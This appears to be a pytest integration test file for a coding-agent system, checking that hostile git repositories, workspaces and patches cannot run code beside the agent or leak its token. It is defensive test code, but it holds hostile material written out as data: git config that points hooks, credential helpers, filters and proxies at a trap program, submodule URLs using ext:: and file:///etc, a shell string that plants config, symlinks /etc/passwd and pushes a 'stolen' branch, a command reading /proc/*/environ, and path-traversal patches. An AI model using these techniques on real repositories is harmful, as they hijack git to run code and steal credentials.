"""Wall: the takeover of work. Nothing of a hostile repository or workspace runs beside the agent.

The decoy: plain git in the same place springs the trap.
"""

from collections.abc import Iterator
from pathlib import Path

import pytest
from coding_agent_consumer.repository.clone import BareClone
from coding_agent_consumer.repository.commits import InvalidPatchError
from coding_agent_consumer.workspace.launch import launch_workspace
from coding_agent_core.forge.values import CommitIdentity
from coding_agent_core.settings.attempt_settings import Isolation, WorkspaceSettings

from tests.integration.consumer_workspace.git_server import TOKEN, GitServer, git, permitted, serve

AUTHOR = CommitIdentity("coding agent", "agent@example.com")
BRANCH = "coding-agent/issue-7"
NAMESPACES = Isolation.NAMESPACES

HOOKS = (
    "post-checkout pre-commit post-commit pre-push post-merge reference-transaction post-rewrite pre-auto-gc"
)


class Trap:
    """A program that leaves a mark with what it could see, and configuration that would start it."""

    def __init__(self, folder: Path, other: GitServer, forge: GitServer) -> None:
        self.program = folder / "evil"
        self.marks = folder / "marks"
        self.marks.mkdir(mode=0o777)
        self.marks.chmod(0o777)
        self.program.write_text(f'#!/bin/sh\n(echo "$0 $@"; env) > {self.marks}/$$\ncat\n')
        self.program.chmod(0o755)
        self.hooks = folder / "hooks"
        self.hooks.mkdir()
        for name in HOOKS.split():
            (self.hooks / name).symlink_to(self.program)
        theirs, ours = f"http://127.0.0.1:{other.port}/", f"http://127.0.0.1:{forge.port}/"
        self.config = f"""
[core]
    hooksPath = {self.hooks}
    fsmonitor = {self.program}
    sshCommand = {self.program}
    gitProxy = {self.program}
    askPass = {self.program}
    attributesFile = {folder}/attributes
    pager = {self.program}
    editor = {self.program}
[credential]
    helper = !{self.program}
[filter "evil"]
    smudge = {self.program}
    clean = {self.program}
    process = {self.program}
    required = true
[diff]
    external = {self.program}
[diff "evil"]
    textconv = {self.program}
    command = {self.program}
[merge "evil"]
    driver = {self.program}
[alias]
    apply = !{self.program}
    push = !{self.program}
[url "{theirs}"]
    insteadOf = {ours}
    pushInsteadOf = {ours}
[remote "origin"]
    url = {theirs}sample.git
    pushurl = {theirs}sample.git
    receivepack = {self.program}
[http]
    followRedirects = true
    proxy = {theirs}
[gpg]
    program = {self.program}
[commit]
    gpgSign = true
[init]
    templateDir = {folder}/template
[include]
    path = {folder}/included
[protocol "file"]
    allow = always
[protocol "ext"]
    allow = always
"""
        (folder / "included").write_text(f"[core]\n    fsmonitor = {self.program}\n")
        (folder / "attributes").write_text("* filter=evil diff=evil merge=evil\n")
        template = folder / "template" / "hooks"
        template.mkdir(parents=True)
        for name in HOOKS.split():
            (template / name).symlink_to(self.program)

    def sprung(self) -> list[str]:
        return [path.read_text() for path in self.marks.iterdir()]


@pytest.fixture
def other(tmp_path: Path) -> Iterator[GitServer]:
    """A host that waits for the token to come by."""
    (tmp_path / "other").mkdir()
    with serve(tmp_path / "other") as server:
        yield server


@pytest.fixture
def trap(tmp_path: Path, other: GitServer, git_server: GitServer) -> Trap:
    (tmp_path / "trap").mkdir()
    return Trap(tmp_path / "trap", other, git_server)


def hostile_files(trap: Trap) -> dict[str, str]:
    return {
        "README.md": "hello\n",
        ".gitattributes": "* filter=evil diff=evil merge=evil ident eol=crlf\n",
        ".gitmodules": '[submodule "s"]\n path = s\n url = file:///etc\n update = !/bin/false\n'
        f'[submodule "t"]\n path = t\n url = ext::{trap.program}\n',
        ".gitconfig": trap.config,
        ".git-hooks/post-checkout": "#!/bin/sh\nexit 0\n",
    }


async def test_the_trap_works(trap: Trap, tmp_path: Path) -> None:
    """Ordinary git, with this configuration, does spring it: the tests below can fail."""
    work = tmp_path / "victim"
    git(tmp_path, "init", "-q", str(work))
    (work / ".git" / "config").write_text("[core]\n bare = false\n" + trap.config)
    (work / "x").write_text("x\n")
    git(work, "add", "x", check=False)
    assert trap.sprung()


async def test_a_hostile_machine_configuration_is_not_listened_to(
    git_server: GitServer, other: GitServer, trap: Trap, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The user's own configuration and environment, as a developer or an image may have them."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(trap.config)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / ".gitconfig"))
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", f"'core.fsmonitor'='{trap.program}'")
    for name in ("GIT_SSH_COMMAND", "GIT_EXTERNAL_DIFF", "GIT_ASKPASS", "GIT_PROXY_COMMAND", "GIT_EDITOR"):
        monkeypatch.setenv(name, str(trap.program))
    monkeypatch.setenv("GIT_TEMPLATE_DIR", str(tmp_path / "trap" / "template"))
    repository = await BareClone.clone(
        git_server.credentials(), tmp_path / "agent", base="main", branch=BRANCH, push_check=permitted
    )
    for name in HOOKS.split():  # as if a template had put them there
        hook = tmp_path / "agent" / "repository.git" / "hooks" / name
        hook.parent.mkdir(exist_ok=True)
        hook.symlink_to(trap.program)
    repository.seed()
    assert await repository.commit(PATCH, "Change", AUTHOR)
    await repository.push()
    assert trap.sprung() == []
    assert other.seen == []
    assert git(git_server.root / "sample.git", "show", f"{BRANCH}:new") == "x"


PATCH = b"""diff --git a/new b/new
new file mode 100644
--- /dev/null
+++ b/new
@@ -0,0 +1 @@
+x
"""


async def test_a_hostile_repository_is_worked_on_and_gets_nothing(
    git_server: GitServer, other: GitServer, trap: Trap, tmp_path: Path, base_dir: Path
) -> None:
    bare = git_server.make("evil.git", hostile_files(trap))
    agent = tmp_path / "agent"
    repository = await BareClone.clone(
        git_server.credentials("evil.git"), agent, base="main", branch=BRANCH, push_check=permitted
    )
    async with launch_workspace(
        WorkspaceSettings(isolation=NAMESPACES), hidden=[agent], base_dir=base_dir
    ) as workspace:
        await workspace.seed(repository.seed())
        await workspace.write_file("planted.config", trap.config)
        planted = (
            "for d in .git ../git; do cat planted.config >> $d/config; echo '* filter=evil diff=evil' >"
            " $d/info/attributes; for h in " + HOOKS + f"; do ln -sf {trap.program} $d/hooks/$h; done; done;"
            " cp planted.config $HOME/.gitconfig; git submodule update --init 2>&1; ln -s /etc/passwd shadow;"
            " ln -s / rootlink; mkdir -p sub/.git; cp -r .git/. sub/.git/; echo x >> README.md;"
            f" git remote add up http://127.0.0.1:{git_server.port}/evil.git;"
            " git push up HEAD:refs/heads/stolen 2>&1"
        )
        said = (await workspace.run(planted)).output
        found = (
            await workspace.run(
                "env; cat /proc/*/environ; grep -rs canary-forge / --exclude-dir=proc"
                " --exclude-dir=sys --exclude-dir=usr --exclude-dir=.pyenv; true"
            )
        ).output
        patch = (await workspace.diff()).data
    assert TOKEN not in said + found
    assert TOKEN.encode() not in patch
    await repository.commit(patch, "Change", AUTHOR)
    await repository.push()
    assert trap.sprung() == [], "something ran beside the agent"
    assert [token for _, token in other.seen if token] == [], "the token went elsewhere"
    assert "stolen" not in git(bare, "branch")
    assert git(bare, "show", f"{BRANCH}:README.md").endswith("x")
    assert git(bare, "cat-file", "-p", f"{BRANCH}:shadow") == "/etc/passwd"
    assert not (agent / "shadow").exists()
    assert [path.name for path in agent.iterdir()] != []
    assert not any(path.name in ("README.md", ".gitmodules") for path in agent.rglob("*"))


async def test_a_workspace_that_lies_about_its_patch_gets_nothing(
    git_server: GitServer, trap: Trap, tmp_path: Path
) -> None:
    """The other end of the socket may send anything at all."""
    repository = await BareClone.clone(
        git_server.credentials(), tmp_path / "agent", base="main", branch=BRANCH, push_check=permitted
    )
    target = tmp_path / "agent" / "repository.git" / "config"
    before = target.read_bytes()
    lies = [
        PATCH.replace(b"new b/new", b"../repository.git/config b/../repository.git/config").replace(
            b"+++ b/new", b"+++ b/../repository.git/config"
        ),
        PATCH.replace(b"/new", b"/" + str(target).encode()),
        PATCH.replace(b"/new", b"/.git/hooks/pre-push").replace(b"100644", b"100755"),
        PATCH.replace(b"100644", b"120000")
        .replace(b"/new", b"/d")
        .replace(b"+x", b"+" + str(tmp_path).encode())
        + PATCH.replace(b"/new", b"/d/escaped"),
        PATCH.replace(b"100644", b"120000").replace(b"/new", b"/.gitmodules"),
        b"this is not a patch",
        PATCH.replace(b"new file mode 100644\n", b"").replace(b"/dev/null", b"a/new"),
        bytes(64 * 2**20 + 1),
    ]
    for lie in lies:
        with pytest.raises(InvalidPatchError):
            await repository.commit(lie, "Lie", AUTHOR)
    assert target.read_bytes() == before
    assert not (tmp_path / "escaped").exists()
    assert repository.tip == repository.start_point
